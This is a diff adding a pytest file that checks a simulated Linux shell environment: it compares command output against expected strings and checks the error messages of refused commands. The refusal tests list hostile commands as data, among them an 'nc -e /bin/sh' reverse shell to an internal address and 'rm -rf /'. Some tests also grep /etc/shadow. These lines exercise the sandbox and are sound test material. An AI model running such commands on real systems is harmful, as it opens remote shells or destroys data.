@@ -1,0 +1,157 @@
+"""The programs: what they print, and that they refuse what they don't do in their own words."""
+
+from __future__ import annotations
+
+import pytest
+
+
+@pytest.mark.parametrize(
+    ("command", "printed"),
+    [
+        ("whoami; id; id -u app; id -Gn app; groups", "root\nuid=0(root) gid=0(root) groups=0(root)\n1000\napp\nroot"),
+        ("ls -1 /var/spool; ls -d /etc; ls -A /root", "mail\n/etc\n.bashrc\n.profile\n.ssh"),
+        ("ls -ld /tmp | cut -c1-10; ls -l /bin | sed 's/.*-> //'", "drwxrwxrwt\nusr/bin"),
+        ("touch /tmp/x; ls -l /tmp/x | cut -d' ' -f1-5", "-rw-r--r-- 1 root root 0"),
+        ("cd /tmp; touch b a; mkdir d; touch d/e; ls -R", ".:\na\nb\nd\n\n./d:\ne"),
+        (
+            "printf '1\\n2\\n3\\n' > /tmp/n; head -n 1 /tmp/n; tail -n 1 /tmp/n; wc -l /tmp/n; cat -n /tmp/n | tail -1",
+            "1\n3\n3 /tmp/n\n     3\t3",
+        ),
+        ("find /etc/pam.d -type f | sort", "/etc/pam.d/common-auth\n/etc/pam.d/su"),
+        ("find / -maxdepth 1 -name 'et*' -o -maxdepth 1 -name opt | sort", "/etc\n/opt"),
+        (
+            "mkdir -p /tmp/q/r; touch /tmp/q/f; find /tmp/q -empty | sort; find /tmp/q -delete; ls /tmp",
+            "/tmp/q/f\n/tmp/q/r",
+        ),
+        (
+            "find /etc/pam.d -name su -exec wc -l {} \\;; find /etc/pam.d -type f -exec echo {} +",
+            "1 /etc/pam.d/su\n/etc/pam.d/common-auth /etc/pam.d/su",
+        ),
+        (
+            "grep -c : /etc/group; grep -rl nobody /etc | sort; grep -in ROOT /etc/passwd | head -1",
+            "30\n/etc/gshadow\n/etc/passwd\n/etc/shadow\n1:root:x:0:0:root:/root:/bin/bash",
+        ),
+        (
+            "echo 'foo bar' | grep -o 'b.*'; echo ab | grep -E '^(a|b)+$';echo a.c | grep -F a.c; grep x /etc/issue",
+            "bar\nab\na.c",
+        ),
+        ("echo abc | egrep -v x; echo a+b | fgrep +", "abc\na+b"),
+        (
+            'cp /etc/passwd /tmp/p && s=$(sha256sum < /tmp/p) && [ "$s" = "$(sha256sum < /etc/passwd)" ] && echo same',
+            "same",
+        ),
+        (
+            "cp -r /etc/pam.d /tmp; ls /tmp/pam.d; cp /etc /tmp 2>&1",
+            "common-auth\nsu\ncp: -r not specified; omitting directory '/etc'",
+        ),
+        ("echo 1 > /tmp/a; mv /tmp/a /tmp/b; mv /tmp/b /dev/shm; ls /tmp /dev/shm", "/dev/shm:\nb\n\n/tmp:"),
+        (
+            "mkdir /tmp/d; rm /tmp/d 2>&1; rmdir /tmp/d; rm -f /tmp/none; rm /tmp/none 2>&1",
+            "rm: cannot remove '/tmp/d': Is a directory\nrm: cannot remove '/tmp/none': No such file or directory",
+        ),
+        ("rm -rf / 2>&1 | head -1", "rm: it is dangerous to operate recursively on '/'"),
+        (
+            "ln -s /etc/hostname /tmp/l; readlink /tmp/l; cat /tmp/l; ln /tmp/l /tmp/h; stat -c %h /tmp/h",
+            "/etc/hostname\nweb-0\n2",
+        ),
+        (
+            "touch /tmp/m; chmod 640 /tmp/m; stat -c %a /tmp/m; chmod u+x,o=r /tmp/m; stat -c '%a %A' /tmp/m",
+            "640\n744 -rwxr--r--",
+        ),
+        (
+            "touch /tmp/o; chown app:app /tmp/o; stat -c %U:%G /tmp/o; chown nobody /tmp/o; stat -c %U:%g /tmp/o",
+            "app:app\nnobody:1000",
+        ),
+        ("env -i A=1 printenv; printenv HOME; env | grep -c HOSTNAME", "A=1\n/root\n1"),
+        (
+            "echo 'c a b' | tr ' ' '\\n' | sort; printf '3\\n10\\n' | sort -n; printf 'a\\na\\nb\\n' | uniq -c",
+            "a\nb\nc\n3\n10\n      2 a\n      1 b",
+        ),
+        ("echo a:b:c | cut -d: -f2-; echo hello | cut -c1-2; echo hello | tr a-y b-z", "b:c\nhe\nifmmp"),
+        (
+            "echo hello | base64; echo aGVsbG8K | base64 -d; echo '!' | base64 -d 2>&1",
+            "aGVsbG8K\nhello\nbase64: invalid input",
+        ),
+        (
+            "printf abc | sha256sum; printf abc | md5sum",
+            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n900150983cd24fb0d6963f7d28e17f72  -",
+        ),
+        (
+            "echo hello | sed 's/l/L/g; s/h/H/'; printf 'a\\nb\\n' | sed -n 2p; printf 'a\\nb\\n' | sed '/a/d'",
+            "HeLLo\nb\nb",
+        ),
+        ("echo 'a b c' | awk '{print $2, $NF}'; echo 'x:y' | awk -F: '{print $2}'", "b c\ny"),
+        ("echo a b | xargs -n 1 echo -; printf 'x\\n' | xargs -I{} echo [{}]", "- a\n- b\n[x]"),
+        ("which ls nothing sh; hostname; uname -m; uname -s", "/usr/bin/ls\n/usr/bin/sh\nweb-0\nx86_64\nLinux"),
+        ("date -u -d @0 '+%Y-%m-%d %H:%M:%S'; date -d 2026-01-02 +%s", "1970-01-01 00:00:00\n1767312000"),
+        ("echo x | tee /tmp/t; cat /tmp/t; echo y | tee -a /tmp/t > /dev/null; wc -l < /tmp/t", "x\nx\n2"),
+        ("timeout 0.05 sleep 5; echo $?; timeout 5 true; echo $?", "124\n0"),
+        ("echo secret > /tmp/s; shred -u /tmp/s; ls /tmp", ""),
+        ("seq 3; seq -s, 2 2 6; basename /a/b.c .c; dirname /a/b", "1\n2\n3\n2,4,6\nb\n/a"),
+        ("ps -o pid,comm | head -2; ps -ef | grep -c test-wait", "{}"),
+        ("su app -c 'whoami; id -u'", "app\n1000"),
+        (
+            "dd if=/dev/zero of=/tmp/z bs=1K count=2 2>&1 | tail -1; du -s /tmp | cut -f2; df / | tail -1 | cut -c1-7",
+            "2048 bytes copied\n/tmp\noverlay",
+        ),
+        ("dpkg -s bash | grep ^Version; apt list --installed 2>/dev/null | grep -c '/now'", "Version: 5.2.15-2+b8\n18"),
+        ("stat -c '%F %s' /etc/debian_version; file /bin/ls | cut -d, -f1; test -x /bin/ls; echo $?", "{}"),
+        (
+            "mktemp -d /tmp/x.XXXXXX | wc -c; truncate -s 5 /tmp/t5; wc -c < /tmp/t5; printf 'b\\na\\n' | tac",
+            "14\n5\na\nb",
+        ),
+    ],
+)
+async def test_a_program_prints(pod, command, printed):
+    result = await pod.sh(command)
+    if printed == "{}":
+        assert result.out.strip()
+    else:
+        assert result.out.rstrip("\n") == printed
+
+
+@pytest.mark.parametrize(
+    ("command", "code", "message"),
+    [
+        ("cat /nowhere", 1, "cat: /nowhere: No such file or directory"),
+        ("cat /etc", 1, "cat: /etc: Is a directory"),
+        ("ls --colour-me", 2, "ls: unrecognized option '--colour-me'"),
+        ("ls -Q", 2, "ls: invalid option -- 'Q'"),
+        ("grep", 2, "Usage: grep [OPTION]... PATTERNS [FILE]..."),
+        ("find / -nope", 1, "find: unknown predicate `-nope'"),
+        ("cp /etc/passwd", 1, "cp: missing destination file operand after '/etc/passwd'"),
+        ("mkdir /tmp", 1, "mkdir: cannot create directory '/tmp': File exists"),
+        ("mkdir /a/b", 1, "mkdir: cannot create directory '/a/b': No such file or directory"),
+        ("rmdir /etc", 1, "rmdir: failed to remove '/etc': Directory not empty"),
+        ("ln -s x /etc/passwd", 1, "ln: failed to create symbolic link '/etc/passwd': File exists"),
+        ("chmod 999 /tmp", 1, "chmod: invalid mode: '999'"),
+        ("chown nobody-here /tmp", 1, "chown: invalid user: 'nobody-here'"),
+        ("id nobody-here", 1, "id: 'nobody-here': no such user"),
+        ("kill 9999", 1, "sh: 1: kill: (9999) - No such process"),
+        ("sleep x", 1, "sleep: invalid time interval 'x'"),
+        ("awk 'BEGIN{x=1}'", 2, "awk: the lab's awk prints fields only: /pattern/ {print $1, $2}"),
+        ("nc -e /bin/sh 10.88.0.1 4444", 1, "nc: invalid option -- 'e'"),
+        ("mount /dev/sda /mnt", 32, "mount: /mnt: permission denied."),
+        ("apt-get install nmap", 100, "E: Unable to locate package nmap"),
+        ("unshare -n true", 1, "unshare: unshare failed: Operation not permitted"),
+        ("wget", 1, "wget: missing URL"),
+    ],
+)
+async def test_a_program_refuses(pod, command, code, message):
+    result = await pod.sh(command)
+    assert (result.code, result.err.splitlines()[0]) == (code, message)
+
+
+async def test_a_copied_program_is_still_that_program(pod):
+    assert (await pod.sh("cp /bin/echo /tmp/quiet; /tmp/quiet hello; ln -s /tmp/quiet /tmp/q; /tmp/q there")).out == (
+        "hello\nthere\n"
+    )
+
+
+async def test_tail_follows_a_file(pod, shown):
+    await pod.sh("echo one > /tmp/log")
+    execution = pod.node.runtime.start_exec(pod.container, ["tail", "-f", "/tmp/log"], stdout=shown)
+    await pod.sh("sleep 0.01; echo two >> /tmp/log; sleep 0.01")
+    assert shown.text == "one\ntwo\n"
+    execution.kill()
+    assert await execution.wait() == 137
